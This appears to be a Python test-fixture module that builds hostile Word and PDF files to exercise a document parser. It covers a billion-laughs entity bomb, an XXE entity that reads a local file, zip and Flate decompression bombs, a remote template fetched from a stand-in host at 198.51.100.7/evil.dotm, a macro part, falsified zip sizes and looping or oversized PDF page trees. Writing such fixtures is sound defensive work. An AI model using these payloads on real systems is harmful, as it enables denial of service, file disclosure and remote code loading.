"""Files as an attacker would send them: each small, each asking for far more than it shows."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    f'relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
    'Target="word/document.xml"/>{more}</Relationships>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(
    body: str = "<w:p><w:r><w:t>Ring 999.</w:t></w:r></w:p>",
    *,
    doctype: str = "",
    relations: str = "",
    parts: dict[str, bytes] | None = None,
) -> bytes:
    """Return a Word file made by hand."""
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body>'
        "</w:document>"
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        package.writestr("_rels/.rels", RELATIONS.replace("{more}", relations))
        package.writestr("word/document.xml", document)
        for name, content in (parts or {}).items():
            package.writestr(name, content)
    return stream.getvalue()


def laughs() -> bytes:
    """Return the billion laughs in a Word file."""
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    return docx("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", doctype=f"<!DOCTYPE x [{entities}]>")


def fetches_a_file(secret: Path) -> bytes:
    """Return a Word file that would quote another file of the reader's."""
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    return docx("<w:p><w:r><w:t>before &e; after</w:t></w:r></w:p>", doctype=doctype)


def docx_bomb() -> bytes:
    """Return half a megabyte that unpacks to 500."""
    return docx(parts={"word/media/big.bin": bytes(500_000_000)})


def many_parts() -> bytes:
    """Return a Word file of 3,000 parts."""
    return docx(parts={f"word/x{n}.xml": b"x" for n in range(3_000)})


def macros() -> bytes:
    """Return a Word file with a program in it."""
    return docx(parts={"word/vbaProject.bin": b"x"})


def nested() -> bytes:
    """Return a Word file with a packed file in it."""
    return docx(parts={"word/embeddings/inner.zip": b"PK"})


def fetches_a_template() -> bytes:
    """Return a Word file that would load its template from elsewhere."""
    relation = (
        f'<Relationship Id="r2" Type="{OFFICE}/attachedTemplate" '
        'Target="http://198.51.100.7/evil.dotm" TargetMode="External"/>'
    )
    return docx(relations=relation)


def lying_size() -> bytes:
    """Return a Word file whose declared sizes are smaller than what is there."""
    content = bytearray(docx(parts={"word/media/big.bin": bytes(3_000_000)}))
    real = (3_000_000).to_bytes(4, "little")
    while (at := content.find(real)) >= 0:
        content[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF made of objects, the first being the catalogue."""
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
    return out + trailer % (len(objects) + 1, start)


def flate_bomb(size: int = 400_000_000) -> bytes:
    """Return a PDF whose one page unpacks to 400 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000))
    packed += packer.flush()
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return pdf([CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream])


CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"


def page_loop() -> bytes:
    """Return a PDF whose pages are their own parents."""
    tree = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    return pdf([CATALOGUE, tree, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"])


def many_pages(count: int = 200_000) -> bytes:
    """Return a PDF that says it has 200,000 pages."""
    kids = b" ".join([b"3 0 R"] * count)
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf([CATALOGUE, tree, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"])
